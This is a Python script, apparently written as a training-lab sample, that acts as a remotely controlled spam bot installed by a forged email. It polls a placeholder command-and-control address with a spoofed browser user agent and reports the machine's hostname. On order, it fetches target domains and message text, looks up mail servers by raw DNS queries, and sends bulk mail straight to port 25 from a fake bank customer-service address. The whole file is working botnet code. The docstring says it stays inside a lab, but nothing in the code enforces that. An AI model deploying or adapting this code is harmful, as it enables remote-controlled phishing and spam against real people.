#!/usr/bin/python3
"""dich-vu-in: what the forged mail's script fetches and starts, inside the lab's namespaces alone. It asks the control
address for orders at a beat, and sends mails to the lab's mail sinks when told so. It reads and changes nothing of the
machine but its own folder. Standard library alone."""

# ruff: noqa: PTH100, PTH110, PTH118, PTH120, PTH123
from __future__ import annotations

import os
import random
import smtplib
import socket
import struct
import sys
import time
import urllib.request

CONTROL = "http://@CONTROL@"
BEAT = 20
FOLDER = os.path.dirname(os.path.abspath(__file__))
GIVE_UP = 6


def ask(path, body=None):
    """One request to the control address; empty when it cannot be reached."""
    try:
        request = urllib.request.Request(CONTROL + path, data=body, headers={"User-Agent": "Mozilla/4.0 (compatible)"})
        with urllib.request.urlopen(request, timeout=5) as answer:
            return answer.read().decode()
    except OSError:
        return ""


def mail_server(domain):
    """The first mail exchanger of a domain, asked of the machine's resolver (RFC 1035, type MX)."""
    with open("/etc/resolv.conf") as file:
        resolver = next(line.split()[1] for line in file if line.startswith("nameserver"))
    name = b"".join(bytes([len(label)]) + label.encode() for label in domain.split(".")) + b"\0"
    query = struct.pack(">6H", random.randrange(65536), 0x100, 1, 0, 0, 0) + name + struct.pack(">2H", 15, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.settimeout(2)
        line.sendto(query, (resolver, 53))
        answer = line.recv(512)
    if not struct.unpack(">H", answer[6:8])[0]:
        return domain
    return name_at(answer, len(query) + 14)


def name_at(answer, at):
    """The name at an offset of a DNS answer, with its pointers followed."""
    labels = []
    while length := answer[at]:
        if length >= 0xC0:
            at = struct.unpack(">H", answer[at : at + 2])[0] & 0x3FFF
            continue
        labels.append(answer[at + 1 : at + 1 + length].decode())
        at += 1 + length
    return ".".join(labels)


def send(count):
    """Mails to people outside, one connection each, straight to their mail servers; stops when none gets through."""
    domains = ask("/ds.txt").split()
    text = ask("/thu.txt")
    failed = 0
    for number in range(count):
        domain = random.choice(domains)
        to = f"nguoi-{random.randint(1, 9999)}@{domain}"
        try:
            with smtplib.SMTP(mail_server(domain), 25, local_hostname="localhost", timeout=4) as smtp:
                smtp.sendmail("cskh@ngan-hang-so.example", [to], text.format(to=to, number=number))
            failed = 0
        except (OSError, smtplib.SMTPException):
            failed += 1
        if failed >= GIVE_UP:
            break
        time.sleep(random.uniform(0.1, 0.9))
    ask("/ket-qua", f"{number + 1 - failed}".encode())


def running():
    """Whether an older one lives."""
    path = os.path.join(FOLDER, "pid")
    return os.path.exists(path) and os.path.exists("/proc/" + open(path).read().strip())


def main():
    if running():
        return
    with open(os.path.join(FOLDER, "pid"), "w") as file:
        file.write(str(os.getpid()))
    done = set()
    while True:
        order = ask(f"/nhip?may={socket.gethostname()}").split()
        if len(order) == 3 and order[0] == "gui" and order[1] not in done:
            done.add(order[1])
            send(int(order[2]))
        time.sleep(BEAT)


if __name__ == "__main__":
    sys.exit(main())
